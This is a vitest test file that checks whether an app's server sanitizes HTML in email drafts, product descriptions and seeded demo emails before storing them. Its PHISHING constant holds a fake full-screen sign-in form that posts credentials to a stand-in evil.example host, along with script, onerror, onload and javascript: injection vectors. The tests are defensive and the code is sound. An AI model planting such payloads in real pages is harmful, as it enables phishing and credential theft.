// Issue 22 #1: the server stores the contract's HTML fields sanitized. Each case writes a hostile
// body through the HTTP API and reads back what was stored.
import { API_PATHS, buildPath, type Email, type EmailsResponse, type ProductEdit } from '@atrium/api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type AtriumServer } from '../src/index';
import { call, login, PRODUCT_BODY, SEED_CACHE } from './helpers';

let server: AtriumServer;
let admin: string;

beforeAll(async () => {
  // server.test's seed instant, so a run shares its seeded template
  server = await createServer({ logger: false, now: new Date('2025-06-15T10:00:00Z'), ...(SEED_CACHE ? { seedCache: SEED_CACHE } : {}) });
  admin = await login(server, 'admin@demo.com', 'admin');
}, 300_000);
afterAll(async () => {
  await server.close();
});

// the full-screen fake sign-in of the security review, plus the usual script vectors
const PHISHING =
  '<style>body>*{visibility:hidden}</style>' +
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h2>Session expired</h2>' +
  '<form action="https://evil.example/collect" method="post"><input name="email"><input type="password" name="password"><button>Sign in again</button></form></div>' +
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/y">' +
  '<svg onload="alert(1)"></svg><img src="x" onerror="alert(2)"><script>alert(3)</script>' +
  '<a href="javascript:alert(4)">pay</a><a href="https://ok.example/terms">terms</a><img src="https://cdn.example/logo.png" alt="logo">';

function expectClean(html: string) {
  expect(html).not.toMatch(/<(style|form|input|button|iframe|object|embed|svg|script)\b/i);
  expect(html).not.toMatch(/\sstyle=|onload|onerror|javascript:|evil\.example/i);
  expect(html).toContain('Session expired');
  // links get rel; a remote image keeps its address (the reader's screen parks it until allowed)
  expect(html).toContain('<a href="https://ok.example/terms" rel="noopener noreferrer nofollow">terms</a>');
  expect(html).toContain('src="https://cdn.example/logo.png"');
}

describe('HTML fields are stored sanitized', () => {
  it('an email draft with a phishing form is stored, and read back, without it', async () => {
    const res = await call(server, 'POST', API_PATHS.emailSend, { token: admin, body: { draft: true, subject: 'sanitize test', message: PHISHING } });
    expect(res.status).toBe(201);
    const created = res.body as Email;
    expectClean(created.message);
    const drafts = await call(server, 'GET', `${API_PATHS.email}?filter=draft`, { token: admin });
    const stored = (drafts.body as EmailsResponse).emails.find((e) => e.id === created.id);
    expect(stored).toBeDefined();
    expectClean(stored?.message ?? '');
    // plain-text fields are not HTML: kept as sent (rendered as text)
    expect(stored?.subject).toBe('sanitize test');
  });

  it('a product description with a phishing form is stored without it', async () => {
    const product = { ...PRODUCT_BODY, productName: 'Sanitize Test Shoe', productBrand: 'Nike', sku: 77_022, description: PHISHING };
    const res = await call(server, 'POST', API_PATHS.products, { token: admin, body: product });
    expect(res.status).toBe(201);
    const id = (res.body as { id: number }).id;
    const edit = await call(server, 'GET', buildPath(API_PATHS.product, { id }), { token: admin });
    expect(edit.status).toBe(200);
    expectClean((edit.body as ProductEdit).values.description);
    expect((edit.body as ProductEdit).values.productName).toBe('Sanitize Test Shoe');
  });

  it('the seed is stored sanitized too: its hostile demo emails (script, onerror, javascript: link) are clean', async () => {
    const res = await call(server, 'GET', API_PATHS.email, { token: admin });
    expect(res.status).toBe(200);
    const bodies = (res.body as EmailsResponse).emails.flatMap((e) => [e.message, ...e.replies.map((r) => r.message)]);
    expect(bodies.length).toBeGreaterThan(0);
    for (const html of bodies) expect(html).not.toMatch(/<script|onerror|onclick|javascript:/i);
    // the demo's hostile email is still there, as text
    expect(bodies.some((html) => html.includes('Pay now'))).toBe(true);
  });
});
